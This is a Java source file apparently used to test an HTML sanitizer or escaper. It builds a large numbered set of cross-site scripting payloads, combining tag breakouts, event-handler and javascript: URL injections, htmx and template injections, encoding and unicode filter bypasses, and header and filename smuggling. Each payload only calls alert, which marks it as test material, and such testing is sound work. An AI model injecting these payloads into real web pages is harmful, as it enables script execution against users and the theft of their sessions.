package dyad.web.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Hostile texts: ways to have a script run, each after ways to break out of where a text may stand. Each calls {@code alert} with its own
 * number, so that what ran can be named.
 */
final class Payloads {
    /** What closes the place where a text stands: an element's content, attributes, raw text, comments, scripts, styles, pictures. */
    private static final List<String> BREAKOUTS = List.of(
            "",
            "\">",
            "'>",
            "</title>",
            "</textarea>",
            "</script>",
            "--><!-- -->",
            "</style>",
            "</svg></a>",
            "]]>",
            "</option></select></datalist>",
            "</bdi></blockquote></td></table>",
            "\u0000\">",
            "\u202e\u2066");

    /** What makes a page run something; {@code §} stands for the call, {@code ¤} for the call with its marks as entities. */
    private static final List<String> ELEMENTS = List.of(
            "<script>§</script>",
            "<ScRiPt >§</sCrIpT>",
            "<script/src=data:text/javascript,§></script>",
            "<img src=x onerror=§>",
            "<img/src=\"x\"/onerror=§//",
            "<IMG SRC=x ONERROR=\"¤\">",
            "<image src=x onerror=§>",
            "<svg onload=§>",
            "<svg/onload=§//",
            "<svg><script>§</script></svg>",
            "<svg><animate onbegin=§ attributeName=x dur=1s>",
            "<svg><set onbegin=§ attributeName=x to=1>",
            "<svg><a xlink:href=javascript:§><text y=20>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='§'/>#x\"/></svg>",
            "<svg><foreignObject><iframe srcdoc=\"<script>parent.§</script>\"></iframe></foreignObject></svg>",
            "<math><a xlink:href=javascript:§>x</a></math>",
            "<math><mtext><table><mglyph><style><img src=x onerror=§></style></mglyph></table></mtext></math>",
            "<iframe src=javascript:parent.§></iframe>",
            "<iframe srcdoc=\"<script>parent.§</script>\"></iframe>",
            "<iframe srcdoc=\"&lt;img src=x onerror=parent.§&gt;\"></iframe>",
            "<object data=javascript:§></object>",
            "<embed src=javascript:§>",
            "<meta http-equiv=refresh content=\"0;url=javascript:§\">",
            "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>§</script>\">",
            "<base href=\"javascript:§//\">",
            "<link rel=stylesheet href=x onerror=§>",
            "<style onload=§></style>",
            "<style>@import 'javascript:§';</style>",
            "<div style=\"width:expression(§);background:url(javascript:§)\">x</div>",
            "<details open ontoggle=§><summary>x</summary></details>",
            "<input autofocus onfocus=§>",
            "<select autofocus onfocus=§></select>",
            "<video><source onerror=§></video>",
            "<video src=x onerror=§></video>",
            "<audio src=x onerror=§></audio>",
            "<body onload=§>",
            "<marquee onstart=§>x</marquee>",
            "<form action=javascript:§><button>x</button></form>",
            "<form><button formaction=javascript:§>x</button></form>",
            "<a href=javascript:§>x</a>",
            "<a href=\"java\tscript:§\">x</a>",
            "<a href=\"&#106;avascript&colon;¤\">x</a>",
            "<a href=\"\u0001javascript:§\">x</a>",
            "<a href=\"data:text/html,<script>§</script>\">x</a>",
            "<a href=vbscript:§>x</a>",
            "<p onmouseover=§>x</p>",
            "<p tabindex=1 onfocus=§ id=x>x</p>",
            "<template><script>§</script></template><img src=x onerror=§>",
            "<noscript><p title=\"</noscript><img src=x onerror=§>\"></noscript>",
            "<xmp><p title=\"</xmp><img src=x onerror=§>\"></xmp>",
            "<!--<img src=\"--><img src=x onerror=§>\">",
            "<?xml version=\"1.0\"?><img src=x onerror=§>",
            "<div hx-get=\"/\" hx-trigger=\"load\" hx-on::after-request=\"§\">x</div>",
            "<div data-hx-get=\"/\" data-hx-trigger=\"load\" data-hx-on:htmx:after-request=\"§\">x</div>",
            "<div hx-trigger=\"load[§]\" hx-post=\"/review\">x</div>",
            "<div hx-get=\"/\" hx-trigger=\"load\" hx-vals=\"js:{x:§}\">x</div>",
            "<b hx-on:mouseenter=\"§\" data-opens data-key=\"1\">x</b>");

    /** Marks added to the element in which a text stands. */
    private static final List<String> ATTRIBUTES = List.of(
            "\" onmouseover=§ x=\"",
            "' onmouseover=§ x='",
            " onmouseover=§ ",
            "\" autofocus onfocus=§ x=\"",
            "\" style=\"animation:x\" onanimationstart=\"§",
            "\" onload=\"§",
            "\" onerror=\"§\" src=\"x",
            "\" hx-get=\"/\" hx-trigger=\"load\" hx-on::load=\"§",
            "\" data-hx-on:click=\"§",
            "\" hx-vals=\"js:{x:§}\" hx-trigger=\"load\" hx-get=\"/",
            "\" formaction=\"javascript:§",
            "\" href=\"javascript:§",
            "\" xlink:href=\"javascript:§",
            "\" srcdoc=\"<script>§</script>",
            "` onmouseover=§ `");

    /** Addresses that are none. */
    private static final List<String> ADDRESSES = List.of(
            "javascript:§",
            "JaVaScRiPt:§",
            " javascript:§",
            "\tjavascript:§",
            "java\tscript:§",
            "java\nscript:§",
            "\u0001javascript:§",
            "javascript&colon;§",
            "&#106;avascript:§",
            "javascript%3A§",
            "javascript://example.org/%0A§",
            "javascript:§//http://example.org",
            "data:text/html,<script>§</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:§",
            "view-source:javascript:§",
            "blob:javascript:§",
            "feed:javascript:§",
            "//example.org/\"><script>§</script>",
            "https://example.org/\"><script>§</script>",
            "https://example.org/' onmouseover='§",
            "https://javascript:§@example.org/",
            "\\\\example.org\\\"><img src=x onerror=§>");

    /** What a template, a script, JSON, or an eager decoder would take for its own. */
    private static final List<String> OTHERS = List.of(
            "${§}",
            "$unsafe{§}",
            "${\"<script>§</script>\"}",
            "#{§}",
            "@{§}",
            "*{§}",
            "{{§}}",
            "{{constructor.constructor('§')()}}",
            "{%§%}",
            "<%=§%>",
            "[[${§}]]",
            "[(${§})]",
            "__${§}__::x",
            "@if(true)<script>§</script>@endif",
            "@raw<script>§</script>@endraw",
            "@`<script>§</script>`",
            "`)<script>§</script>@`",
            "';§//",
            "\";§//",
            "\\\";§//",
            "\\';§//",
            "`;§//",
            "${`§`}",
            "\"}</script><script>§</script>",
            "\"}]};§;//",
            "\u2028§\u2029",
            "*/§/*",
            "//\n§",
            "&lt;script&gt;§&lt;/script&gt;",
            "&amp;lt;img src=x onerror=§&amp;gt;",
            "&#60;script&#62;§&#60;/script&#62;",
            "&#x3c;img src=x onerror=§&#x3e;",
            "&#0000060img src=x onerror=§&#0000062",
            "%3Cscript%3E§%3C/script%3E",
            "%253Cscript%253E§%253C/script%253E",
            "\\u003cscript\\u003e§\\u003c/script\\u003e",
            "\\x3cscript\\x3e§\\x3c/script\\x3e",
            "+ADw-script+AD4-§+ADw-/script+AD4-",
            "\uff1cscript\uff1e§\uff1c/script\uff1e",
            "\u02c2img src=x onerror=§\u02c3",
            "<\u0000script>§</script>",
            "<s\u0000cript>§</script>",
            "<\u200bscript>§</script>",
            "<scr\u00adipt>§</script>",
            "\u202e<script>§</script>\u202c",
            "\u2067<img src=x onerror=§>\u2069",
            "<<script>§//<</script>",
            "<![CDATA[<img src=x onerror=§>]]>",
            "<scr<script>ipt>§</scr</script>ipt>",
            "<img src=x onerror=§",
            "<a<b onmouseover=§ ",
            "\r\nContent-Type: text/html\r\n\r\n<script>§</script>",
            "../../../<script>§</script>",
            "x.html\"; filename=\"<script>§</script>.html",
            "<script>§</script>.txt",
            "=HYPERLINK(\"javascript:§\")",
            "[x](javascript:§)",
            "![x](x\"onerror=\"§)",
            "<javascript:§>");

    private Payloads() {}

    /** All of them, each different. */
    static List<String> all() {
        List<String> made = new ArrayList<>();
        Stream.of(OTHERS, ADDRESSES, ATTRIBUTES, ELEMENTS)
                .flatMap(List::stream)
                .forEach(way -> made.add(filled(way, made.size())));
        // after each way to break out every other way to run, turn by turn, so that each meets each kind
        for (int i = 0; i < ELEMENTS.size(); i++) {
            for (int b = 1; b < BREAKOUTS.size(); b++) {
                if ((i + b) % 2 == 0) {
                    made.add(BREAKOUTS.get(b) + filled(ELEMENTS.get(i), made.size()));
                }
            }
        }
        return List.copyOf(made);
    }

    private static String filled(String way, int number) {
        String call = "alert(" + number + ")";
        return way.replace("§", call).replace("¤", call.replace("(", "&#40;").replace(")", "&#x29;"));
    }
}
